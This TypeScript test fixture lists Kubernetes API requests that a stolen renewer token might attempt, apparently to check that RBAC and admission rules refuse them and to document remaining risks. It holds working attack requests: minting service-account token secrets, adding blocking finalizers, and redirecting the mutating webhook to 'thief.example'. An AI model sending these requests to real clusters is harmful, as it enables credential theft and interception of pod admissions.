import { APPLY_PATCH, type KubeRequest } from '@ecr-pull-secrets/renewer/kube/client.ts';
import { PRODUCT_NAME } from '@ecr-pull-secrets/shared/names.ts';
import type { Manifest } from '../../src/playground/kube-api.ts';
import { AUTHORITY, CONFIGURATION } from './authority.ts';
import { pathOf, SECRET } from './pull-secret.ts';

/** What somebody does with a stolen token: a sentence and the request. */
export type Attack = readonly [title: string, request: KubeRequest];

/** Namespaces as the attacks need them. */
export const PLACES = {
  /** Without a secret of the name. */
  empty: 'kube-system',
  /** With a pull secret that the renewer keeps. */
  served: 'payments',
  /** With a service-account-token secret of the name. */
  account: 'account',
} as const;

const SERVICE_ACCOUNT_TOKEN = 'kubernetes.io/service-account-token';
const DOCKER_CONFIG = {
  '.dockerconfigjson': Buffer.from('{"auths":{}}').toString('base64'),
};
const OWNERS = [
  { apiVersion: 'v1', kind: 'ConfigMap', name: 'x', uid: '00000000-0000-4000-8000-000000000000' },
];
const FINALIZERS = ['example.com/never'];
const QUERY = { fieldManager: 'thief', force: true };

const WEBHOOK = 'inject.ecr-pull-secrets.io';
const CHECKPOINT = pathOf(PRODUCT_NAME, `${PRODUCT_NAME}-tokens`);
const LEASE = `/apis/coordination.k8s.io/v1/namespaces/${PRODUCT_NAME}/leases/${PRODUCT_NAME}`;

/** The same request, which the API server carries out but for storing anything. */
export function asDryRun(request: KubeRequest): KubeRequest {
  return { ...request, query: { ...request.query, dryRun: 'All' } };
}

export function apply(path: string, body: Manifest): KubeRequest {
  return { method: 'PATCH', path, query: QUERY, contentType: APPLY_PATCH, body };
}

function merge(path: string, body: Manifest): KubeRequest {
  return { method: 'PATCH', path, contentType: 'application/merge-patch+json', body };
}

function jsonPatch(path: string, ...body: readonly Manifest[]): KubeRequest {
  return { method: 'PATCH', path, contentType: 'application/json-patch+json', body };
}

/** A manifest of a secret, the pull secret unless another is named. */
export function secret({ metadata = {}, ...fields }: Manifest = {}, name = SECRET): Manifest {
  return { apiVersion: 'v1', kind: 'Secret', metadata: { name, ...Object(metadata) }, ...fields };
}

/** A manifest that makes the token controller put a token of that account into the secret. */
export function tokenOf(account: string, name?: string): Manifest {
  const annotations = { 'kubernetes.io/service-account.name': account };
  return secret({ type: SERVICE_ACCOUNT_TOKEN, metadata: { annotations } }, name);
}

/** Types that mean something to a component of Kubernetes, Helm, or nobody. */
const OTHER_TYPES: Readonly<Record<string, Manifest>> = {
  Opaque: {},
  'bootstrap.kubernetes.io/token': { data: { 'token-id': 'YWJjZGVm' } },
  'helm.sh/release.v1': { metadata: { labels: { owner: 'helm', name: 'app' } } },
  'kubernetes.io/dockercfg': { data: { '.dockercfg': 'e30=' } },
  'kubernetes.io/ssh-auth': { data: { 'ssh-privatekey': 'eA==' } },
  'kubernetes.io/tls': { data: { 'tls.crt': '', 'tls.key': '' } },
  'example.com/theirs': {},
};

/** With the rights that the renewer and the CronJob have alike: create and patch of the pull secret. */
export const PULL_SECRET_ATTACKS: readonly Attack[] = [
  [
    'applies a secret for the token of any ServiceAccount',
    apply(pathOf(PLACES.empty), tokenOf('any')),
  ],
  [
    'makes an existing secret one for the token of another ServiceAccount',
    merge(pathOf(PLACES.account), tokenOf('other')),
  ],
  ...Object.entries(OTHER_TYPES).map(
    ([type, fields]): Attack => [
      `applies a secret of type ${type}`,
      apply(pathOf(PLACES.empty), secret({ type, ...fields })),
    ],
  ),
  [
    'adds a finalizer, with which no namespace can be deleted',
    merge(pathOf(PLACES.served), { metadata: { finalizers: FINALIZERS } }),
  ],
  [
    'adds an owner, with which the secret would be garbage',
    apply(pathOf(PLACES.served), secret({ metadata: { ownerReferences: OWNERS } })),
  ],
  [
    'makes a secret with a finalizer',
    apply(
      pathOf(PLACES.empty),
      secret({
        type: 'kubernetes.io/dockerconfigjson',
        data: DOCKER_CONFIG,
        metadata: { finalizers: FINALIZERS },
      }),
    ),
  ],
  [
    'makes the secret immutable, so that nobody can renew it',
    merge(pathOf(PLACES.served), { immutable: true }),
  ],
  [
    'makes the secret a release of Helm',
    merge(pathOf(PLACES.served), {
      metadata: { labels: { owner: 'helm', status: 'deployed', name: 'app', version: '9' } },
      data: { release: 'eA==' },
    }),
  ],
];

/** One of the renewer's, whose webhook configuration there is. */
export const RENEWER_ATTACKS: readonly Attack[] = [
  ['adds a finalizer to the lease', merge(LEASE, { metadata: { finalizers: FINALIZERS } })],
  ['adds an owner to the lease', merge(LEASE, { metadata: { ownerReferences: OWNERS } })],
  ['adds a finalizer to the authority', merge(AUTHORITY, { metadata: { finalizers: FINALIZERS } })],
  ['makes the authority immutable', merge(AUTHORITY, { immutable: true })],
  ['makes the checkpoint immutable', merge(CHECKPOINT, { immutable: true })],
  [
    'has the webhook’s requests sent to a server of its own',
    jsonPatch(CONFIGURATION, {
      op: 'replace',
      path: '/webhooks/0/clientConfig',
      value: { url: 'https://thief.example/mutate' },
    }),
  ],
  [
    'has them sent to a Service of its own',
    applyWebhook({ clientConfig: { service: { name: 'thief', namespace: 'thief' } } }),
  ],
  [
    'has all objects sent',
    applyWebhook({
      rules: [{ operations: ['*'], apiGroups: ['*'], apiVersions: ['*'], resources: ['*/*'] }],
    }),
  ],
  ['has no pod created without it', applyWebhook({ failurePolicy: 'Fail' })],
  ['has it asked for ever so long', applyWebhook({ timeoutSeconds: 30 })],
  [
    'takes the namespace selector away',
    jsonPatch(CONFIGURATION, { op: 'replace', path: '/webhooks/0/namespaceSelector', value: {} }),
  ],
  [
    'takes the conditions away',
    jsonPatch(CONFIGURATION, { op: 'remove', path: '/webhooks/0/matchConditions' }),
  ],
  [
    'puts a second webhook behind ours',
    jsonPatch(CONFIGURATION, {
      op: 'add',
      path: '/webhooks/-',
      value: {
        name: 'second.thief.example',
        admissionReviewVersions: ['v1'],
        sideEffects: 'None',
        clientConfig: { url: 'https://thief.example' },
      },
    }),
  ],
  ['takes our webhook away', merge(CONFIGURATION, { webhooks: null })],
  ...Object.entries({
    labels: { thief: 'x' },
    annotations: { 'cert-manager.io/inject-ca-from': 'thief/thief' },
    finalizers: FINALIZERS,
    ownerReferences: OWNERS,
  }).map(
    ([field, value]): Attack => [
      `changes the ${field} of the webhook configuration`,
      merge(CONFIGURATION, { metadata: { [field]: value } }),
    ],
  ),
];

function applyWebhook(fields: Manifest): KubeRequest {
  return apply(CONFIGURATION, {
    apiVersion: 'admissionregistration.k8s.io/v1',
    kind: 'MutatingWebhookConfiguration',
    metadata: { name: PRODUCT_NAME },
    webhooks: [{ name: WEBHOOK, ...fields }],
  });
}

const SECRETS = `/api/v1/namespaces/${PLACES.account}/secrets`;
const CONFIGURATIONS = CONFIGURATION.slice(0, CONFIGURATION.lastIndexOf('/'));
const ONLY_OURS = { fieldSelector: `metadata.name=${PRODUCT_NAME}` };

/** What RBAC refuses by itself; done by the same identity with all rights to secrets and configurations. */
export const WITH_MORE_RIGHTS: readonly Attack[] = [
  [
    'posts a secret for the token of any ServiceAccount',
    { method: 'POST', path: `/api/v1/namespaces/${PLACES.empty}/secrets`, body: tokenOf('any') },
  ],
  [
    'updates an existing one',
    { method: 'PUT', path: pathOf(PLACES.account), body: tokenOf('other') },
  ],
  ['deletes a secret that is no pull secret', { method: 'DELETE', path: pathOf(PLACES.account) }],
  ['deletes it with its whole collection', { method: 'DELETE', path: SECRETS }],
  ...['ca', 'tokens'].flatMap((end): readonly Attack[] => {
    const name = `${PRODUCT_NAME}-${end}`;
    return [
      [
        `makes ${name} in another namespace`,
        apply(pathOf(PLACES.served, name), secret({ type: 'Opaque' }, name)),
      ],
      [
        `makes ${name} a secret for a token in another namespace`,
        apply(pathOf(PLACES.empty, name), tokenOf('any', name)),
      ],
    ];
  }),
  ['deletes the webhook configuration', { method: 'DELETE', path: CONFIGURATION }],
  [
    'deletes it with the whole collection',
    { method: 'DELETE', path: CONFIGURATIONS, query: ONLY_OURS },
  ],
];

/** The same, in place of the Secrets that a CronJob has no use for. */
export const OWN_SECRETS_ATTACKS: readonly Attack[] = ['ca', 'tokens'].map((end) => {
  const name = `${PRODUCT_NAME}-${end}`;
  return [
    `makes ${name} a secret for a token in the release's own namespace`,
    apply(pathOf(PRODUCT_NAME, name), tokenOf(PRODUCT_NAME, name)),
  ];
});

/** Creates a webhook configuration of our name, where there is none. */
export const NEW_CONFIGURATION: Attack = [
  'creates the webhook configuration',
  applyWebhook({
    admissionReviewVersions: ['v1'],
    sideEffects: 'None',
    clientConfig: { url: 'https://thief.example' },
  }),
];

/**
 * What the identity can still do, with the chart's rights and within the fence: for docs/security.md, which has
 * a line for each.
 */
export const STILL_POSSIBLE: readonly Attack[] = [
  [
    'reads the pull secret of any namespace, and so all tokens in it',
    { method: 'GET', path: `/api/v1/secrets?fieldSelector=metadata.name%3D${SECRET}` },
  ],
  [
    'makes a pull secret with credentials of its own in any namespace, kube-system too',
    apply(
      pathOf(PLACES.empty),
      secret({ type: 'kubernetes.io/dockerconfigjson', data: DOCKER_CONFIG }),
    ),
  ],
  [
    'replaces the credentials of a pull secret by its own',
    merge(pathOf(PLACES.served), { data: DOCKER_CONFIG }),
  ],
  [
    'changes the labels and annotations of a pull secret',
    merge(pathOf(PLACES.served), { metadata: { labels: { thief: 'x' } } }),
  ],
  ['deletes a pull secret', { method: 'DELETE', path: pathOf(PLACES.empty) }],
  [
    'reads the names, labels and annotations of all namespaces',
    { method: 'GET', path: '/api/v1/namespaces' },
  ],
  [
    'makes Events in any namespace',
    {
      method: 'POST',
      path: `/api/v1/namespaces/${PLACES.account}/events`,
      body: {
        metadata: { generateName: 'thief.', finalizers: FINALIZERS },
        involvedObject: { kind: 'Pod', name: 'x', namespace: PLACES.account },
        reason: 'Thief',
        message: 'as it likes, for an hour, and with a finalizer',
      },
    },
  ],
  [
    'reads the authority’s key, with which anyone on the path to the webhook can answer in its place',
    {
      method: 'GET',
      path: AUTHORITY.replace(/\/[^/]+$/, `?fieldSelector=metadata.name%3D${PRODUCT_NAME}-ca`),
    },
  ],
  ['reads the checkpoint, which has all tokens', { method: 'GET', path: CHECKPOINT }],
  [
    'empties the checkpoint, so that the next leader asks AWS for all tokens',
    merge(CHECKPOINT, { data: null }),
  ],
  ['deletes the authority, which is then made anew', { method: 'DELETE', path: AUTHORITY }],
  [
    'changes caBundle, so that no API server trusts the webhook until it is repaired',
    applyWebhook({ clientConfig: { caBundle: '' } }),
  ],
  [
    'takes the lease, so that nobody renews for as long as it goes on doing so',
    merge(LEASE, { metadata: { annotations: { thief: 'x' } } }),
  ],
];
